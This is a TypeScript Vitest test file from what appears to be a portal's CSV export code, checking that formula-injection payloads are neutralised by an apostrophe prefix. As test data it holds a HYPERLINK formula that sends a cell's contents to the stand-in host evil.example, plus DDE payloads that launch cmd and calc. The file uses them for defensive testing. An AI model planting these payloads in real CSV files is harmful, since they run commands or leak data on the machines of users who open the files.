import { parse } from 'csv-parse/sync';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { type User } from '$lib/server/auth/users';
import { createTestUser, PEOPLE } from '$lib/server/auth/testing';
import { changeSittingState, recordDecision } from '$lib/server/commission/service';
import { heldSitting } from '$lib/server/commission/testing';
import { spreadsheetLines } from '$lib/server/csv-testing';
import { tableToCsv } from '$lib/server/dashboard/tables';
import type { Db } from '$lib/server/db';
import { closeDatabase } from '$lib/server/db/instance';
import { createTestInstance } from '$lib/server/db/testing';
import { OpenDataSet } from '$lib/server/opendata/resources';
import { GET as releve } from './commission/seances/[id=id]/releve.csv/+server';

/** Every CSV the portal writes: a free-text cell that a spreadsheet would run starts with '. */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
let db: Db;
let admin: User;

beforeEach(async () => {
	db = await createTestInstance();
	admin = await createTestUser(db, PEOPLE.admin);
});
// Each test's database is the process's one in turn: closed after the last, the next file opens its own.
afterAll(closeDatabase);

const cells = (csv: string) => parse(csv, { relax_column_count: true }).flat() as string[];

describe('CSV formula injection', () => {
	it('releve.csv: a decision’s reason', async () => {
		const { sittingId, itemId } = await heldSitting(db, admin);
		expect(
			await recordDecision(db, admin, sittingId, itemId, { kind: 'free', text: FORMULA }, null)
		).toEqual({ ok: true });
		await changeSittingState(db, admin, sittingId, 'closed', null);
		const response = await releve({ params: { id: String(sittingId) } } as never);
		const all = cells(await response.text());
		expect(all).toContain(`'${FORMULA}`);
		expect(all).not.toContain(FORMULA);
	});

	it('releve.csv: a line break never starts a row in a spreadsheet', async () => {
		const { sittingId, itemId } = await heldSitting(db, admin, { heldOn: '2026-05-02' });
		// No quote nor comma, which would have the cell quoted anyway.
		const text = 'Avis favorable.\n@SUM(1+1)\n=1+1';
		expect(
			await recordDecision(db, admin, sittingId, itemId, { kind: 'free', text }, null)
		).toEqual({ ok: true });
		await changeSittingState(db, admin, sittingId, 'closed', null);
		const response = await releve({ params: { id: String(sittingId) } } as never);
		const lines = spreadsheetLines(await response.text());
		expect(lines).toHaveLength(2);
		expect(lines[1]).toContain(`"${text}"`);
	});

	it('fiches.csv: titles and organisations', async () => {
		const fiche = await db
			.selectFrom('fiche')
			.select('id')
			.where('code', '=', '1-1')
			.executeTakeFirstOrThrow();
		await db
			.updateTable('fiche')
			.set({ title: '+cmd|" /C calc"!A0' })
			.where('id', '=', fiche.id)
			.execute();
		// One partner only, so that its name opens the cell.
		const partner = await db
			.selectFrom('fiche_partner')
			.select(['id', 'organisation_id'])
			.where('fiche_id', '=', fiche.id)
			.orderBy('position')
			.executeTakeFirstOrThrow();
		await db
			.deleteFrom('fiche_partner')
			.where('fiche_id', '=', fiche.id)
			.where('id', '!=', partner.id)
			.execute();
		await db
			.updateTable('organisation')
			.set({ name: '@SUM(1+1)*cmd' })
			.where('id', '=', partner.organisation_id)
			.execute();
		const set = new OpenDataSet(db, { generatedAt: new Date().toISOString() });
		const all = cells(Buffer.from((await set.file('fiches'))!.body).toString('utf8'));
		expect(all).toContain(`'+cmd|" /C calc"!A0`);
		expect(all).toContain(`'@SUM(1+1)*cmd`);
		expect(all).not.toContain('+cmd|" /C calc"!A0');
	});

	it('dashboard and edition CSVs: labels, never numbers', () => {
		const csv = tableToCsv({
			id: 'activite',
			title: 'Activité',
			unit: '',
			summary: '',
			columns: [
				{ key: 'organisation', label: 'Organisation' },
				{ key: 'valeur', label: 'Valeur' }
			],
			rows: [
				["-2+3+cmd|' /C calc'!A0", -3],
				['\tTab', 1.5]
			]
		});
		const all = cells(csv);
		expect(all).toEqual([
			'organisation',
			'valeur',
			"'-2+3+cmd|' /C calc'!A0",
			'-3',
			"'\tTab",
			'1.5'
		]);
	});
});
